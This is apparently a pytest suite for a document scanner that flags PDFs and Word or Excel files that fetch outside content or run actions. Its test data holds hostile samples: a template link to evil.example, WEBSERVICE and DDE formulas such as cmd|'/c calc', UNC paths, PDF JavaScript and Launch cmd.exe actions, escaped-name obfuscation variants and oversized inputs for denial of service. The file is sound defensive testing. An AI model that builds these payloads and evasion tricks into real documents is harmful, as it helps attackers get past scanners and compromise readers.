"""What a file hides is found, in a time that grows no faster than the file."""

import io
import time
import zipfile
import zlib

import pytest

from mediation_office.documents.files import office_files, pdf

DOCX = b"wordprocessingml.document.main+xml"
OUTSIDE = (
    b'<Relationships><Relationship Type="x/attachedTemplate" Target="http://evil.example/"'
    b' TargetMode="External"/></Relationships>'
)


def document(relations, *, packed=zipfile.ZIP_DEFLATED):
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w", packed) as archive:
        archive.writestr("[Content_Types].xml", DOCX)
        archive.writestr("word/_rels/document.xml.rels", relations)
    return kept


def pdf_file(dictionary, inside, *, before=b""):
    stream = zlib.compress(inside)
    return io.BytesIO(
        b"%PDF-1.7\n" + before + b"1 0 obj\n" + dictionary + b"\nstream\n" + stream + b"\nendstream"
    )


ACTION = b"7 0 8 20 << /S /JavaScript /JS (app.alert(1)) >>"


@pytest.mark.parametrize(
    "dictionary",
    [
        b"<< /Type /ObjStm /N 2 /First 8 /Filter /FlateDecode >>",
        b"<< /Type /ObjStm /N 2 /First 8 /Filter /FlateDecode /P ( obj) >>",
        b"<< /Type /ObjStm /N 2 /P (" + b"x" * 500 + b") >>",
        b"<< /Type /#4fbjStm /N 2 /First 8 >>",
        b"<< /Type 9 0 R /N 2 /First 8 >>",
    ],
)
def test_an_action_is_found_in_a_packed_object_whatever_its_dictionary_says(dictionary):
    assert pdf.suspicion(pdf_file(dictionary, ACTION)) == "pdf-active"


def test_an_object_stream_that_cannot_be_read_is_put_aside():
    hidden = io.BytesIO(
        b"%PDF-1.7\n1 0 obj\n<< /Type /ObjStm /Filter /ASCIIHexDecode >>\nstream\n374f\nendstream"
    )
    assert pdf.suspicion(hidden) == "pdf-unreadable"


def test_an_ordinary_page_is_not_suspected():
    page = pdf_file(b"<< /Length 44 /Filter /FlateDecode >>", b"0 0 612 792 re W n BT (Text) Tj ET")
    assert pdf.suspicion(page) == ""


@pytest.mark.parametrize(
    ("relations", "reason"),
    [
        (OUTSIDE, "outside-link"),
        (OUTSIDE.decode().encode("utf-16"), "outside-link"),
        (b'"frame"' * 10, "outside-link"),  # no XML at all
        (b"<Relationships>" + b" " * 300_000 + b"</Relationships>", "outside-link"),
        (OUTSIDE.replace(b"x/attachedTemplate", b"x/hyperlink"), ""),
        (b"<Relationships/>", ""),
    ],
)
def test_a_document_that_fetches_something_is_put_aside(relations, reason):
    assert office_files.look_into(document(relations)) == ("docx", reason)


def test_a_document_packed_in_another_way_is_refused():
    assert office_files.look_into(document(b"", packed=zipfile.ZIP_LZMA)) == ("", "damaged")


def table(formula):
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w") as archive:
        archive.writestr("[Content_Types].xml", b"spreadsheetml.sheet.main+xml")
        sheet = f'<x:worksheet xmlns:x="a"><x:c><x:f>{formula}</x:f></x:c></x:worksheet>'
        archive.writestr("xl/worksheets/sheet1.xml", sheet)
    return kept


@pytest.mark.parametrize(
    ("formula", "reason"),
    [
        ('_xlfn.WEBSERVICE("http://a")', "outside-link"),
        ('_xlfn.WEBSERVICE&#40;"http://a"&#41;', "outside-link"),
        ('_xlfn.webservice ("http://a")', "outside-link"),
        ('WEB<![CDATA[SERVICE("http://a")]]>', "outside-link"),
        ('WEB<!-- -->SERVICE("http://a")', "outside-link"),
        ('RT&#68;("x",,"y")', "outside-link"),
        ('</x:f><x:ddeLink ddeService="cmd"/><x:f>', "outside-link"),
        ('_xlfn.WEB<?a?>SERVICE("http://a")', "outside-link"),
        ('_xlfn.IMPORTTEXT("http://a")', "outside-link"),
        ("cmd|'/c calc'!A0", "outside-link"),
        (r"'\\198.51.100.7\[a.xlsx]S'!A1", "outside-link"),
        ("SUM(A1:A2)&#10;", ""),
        ("<unclosed>IMAGE", "office-unreadable"),
    ],
)
def test_a_table_whose_formula_fetches_something_is_put_aside(formula, reason):
    assert office_files.look_into(table(formula)) == ("xlsx", reason)


def open_pdf(dictionary):
    return io.BytesIO(
        b"%PDF-1.4\n1 0 obj << /Type /Catalog /OpenAction " + dictionary + b" >> endobj"
    )


@pytest.mark.parametrize(
    ("dictionary", "reason"),
    [
        (rb"<</S/GoToR/F(\\\\198.51.100.7\\s\\a.pdf)/D[0/Fit]>>", "outside-link"),
        (rb"<</S/Thread/F 9 0 R>> endobj 9 0 obj (\\\\198.51.100.7\\a.pdf)", "outside-link"),
        (rb"<</F(aaaaaaaaaaaaaaaaaaaaaaaa/../\\\\198.51.100.7\\a.pdf)>>", "outside-link"),
        (b"<< /S /SubmitForm /F (http://198.51.100.7/) >>", "outside-link"),
        (b"<< /S /Import#44ata /F (a.fdf) >>", "outside-link"),
        (b"<< /S /#4caunch /F (cmd.exe) >>", "pdf-active"),
        (b"<< /S /Rendition /JS (app.alert(1)) >>", "pdf-active"),
        (b"<< /S /Java#53#63ript /JS (app.alert(1)) >>", "pdf-active"),
        (b"<< /S /URI /URI (file://198.51.100.7/share/a) >>", "outside-link"),
        (rb"<< /S /URI /URI (\\\\198.51.100.7\\share) >>", "outside-link"),
        (b"[1 0 R /Fit] /X << /FS /URL /F (http://198.51.100.7/a) >>", "outside-link"),
        (b"<< /S /URI /URI (https://adilet.zan.kz/) >>", "outside-link"),  # unasked
        (b"[1 0 R /Fit] /Annots [<< /A << /S /URI /URI (https://adilet.zan.kz/) >> >>]", ""),
        (b"[1 0 R /Fit] /A << /S /URI /URI (www.adilet.kz) >> /B << /URI () >>", ""),
        (b"[1 0 R /Fit] /A << /S /URI /URI <68747470733a2f2f61646c2e6b7a> >>", ""),
        (b"[1 0 R /Fit] /A << /S /URI /URI <66696c653a2f2f612f62> >>", "outside-link"),
        (b"[1 0 R /Fit] /A << /S /URI /URI <feff00660069006c0065003a> >>", "outside-link"),
        (rb"[1 0 R /Fit] /A << /S /URI /URI (f\151le://a/b) >>", "outside-link"),
        (b"[1 0 R /Fit] /A << /S /URI /URI%\n(file://a/b) >>", "outside-link"),
        (b"[1 0 R /Fit] /A << /S /URI /URI (http://a) >> /AA << /O 5 0 R >>", "outside-link"),
        (b"[1 0 R /Fit] /A << /S /URI /#55RI (http://a) >> /A#41 << /O 5 0 R >>", "outside-link"),
        (b"[1 0 R /Fit] /AA << /O << /S /GoTo /D [1 0 R /Fit] >> >>", ""),
        (b"[1 0 R /Fit] /X << /Length 0 /F <5c5c3139382e35312e> >>", "outside-link"),
        (b"<< /S /GoTo /D [1 0 R /Fit] >>", ""),
        (b"<< /S /Named /N /NextPage >> /Style#20Name /Text#20body", ""),
        (b"5 0 R /Outlines << /First 12 0 R /Last 13 0 R >> stream\nBT (a) Tj ET", ""),
    ],
)
def test_a_pdf_may_lead_only_within_itself_or_to_a_page_on_the_web(dictionary, reason):
    assert pdf.suspicion(open_pdf(dictionary)) == reason


@pytest.mark.parametrize("end", [b"\r", b"\n", b"\r\n", b" \r\n"])
def test_an_object_stream_is_read_whatever_ends_its_first_line(end):
    hidden = b"%PDF-1.7\n1 0 obj<</Type/ObjStm/N 1/First 4>>stream" + end + zlib.compress(ACTION)
    assert pdf.suspicion(io.BytesIO(hidden)) == "pdf-active"


@pytest.mark.parametrize(
    "dictionary",
    [b"/Type/ObjStm/N 1/First 4/Filter/LZWDecode", b"/N 1/First 4", b"/N 1/F#69rst 9 0 R"],
)
def test_an_object_stream_packed_in_another_way_is_put_aside(dictionary):
    hidden = b"%PDF-1.7\n1 0 obj<<" + dictionary + b">>stream\n\x80\x0b\x60\x50\nendstream"
    assert pdf.suspicion(io.BytesIO(hidden)) == "pdf-unreadable"


MEGABYTE = 1024**2
STREAMS = 19_990


def streams(inside, count, *, room=0):
    """A PDF of so many streams, each with nothing behind it up to `room` bytes."""
    stream = b"stream\n" + zlib.compress(inside, 9)
    return b"%PDF-1.7\n" + stream.ljust(room, b"\0") * count


@pytest.mark.parametrize(
    "content",
    [
        pytest.param(lambda: b"#41" * (3 * MEGABYTE), id="escapes in the open"),
        pytest.param(lambda: b"/#41 " * (2 * MEGABYTE), id="escaped names"),
        pytest.param(lambda: (b"/" + b"#4a" * 41 + b" ") * 50_000, id="long names"),
        pytest.param(lambda: b"/" * (10 * MEGABYTE), id="slashes"),
        pytest.param(lambda: b"/F ( " * (2 * MEGABYTE), id="addresses"),
        pytest.param(lambda: b"stream\n" * MEGABYTE, id="streams without end"),
        pytest.param(lambda: b"/ObjStm" * MEGABYTE + b" stream\n", id="object streams named"),
        pytest.param(lambda: b"/First 1 " * MEGABYTE, id="first objects"),
        pytest.param(lambda: streams(b"1 0 " + b"#41" * 1_400_000, 12), id="packed escapes"),
        pytest.param(lambda: streams(b"1 0 " + b"#41" * 1_400_000, 400), id="many of them"),
        pytest.param(lambda: streams(b"1 0 " + b"/" * 5 * MEGABYTE, 3), id="packed slashes"),
        pytest.param(lambda: streams(b"q BT", STREAMS, room=500), id="streams with room"),
        pytest.param(lambda: streams(b"1 0 2 3 ", STREAMS, room=500), id="objects with room"),
        pytest.param(
            lambda: b"stream\n\x78\x01" + b"\0\0\0\xff\xff" * 2 * MEGABYTE, id="empty blocks"
        ),
    ],
)
def test_a_pdf_costs_little_time_whatever_it_holds(content):
    hostile = io.BytesIO(b"%PDF-1.7\n" + content())
    began = time.process_time()
    pdf.suspicion(hostile)
    assert time.process_time() - began < 2


@pytest.mark.parametrize(
    "look",
    [
        lambda: office_files.look_into(document(b'"frame"' * 60_000)),
        lambda: office_files.look_into(document(b"<a " * 300_000)),
    ],
)
def test_a_hostile_file_costs_no_more_time_than_its_size(look):
    began = time.process_time()
    look()
    assert time.process_time() - began < 3
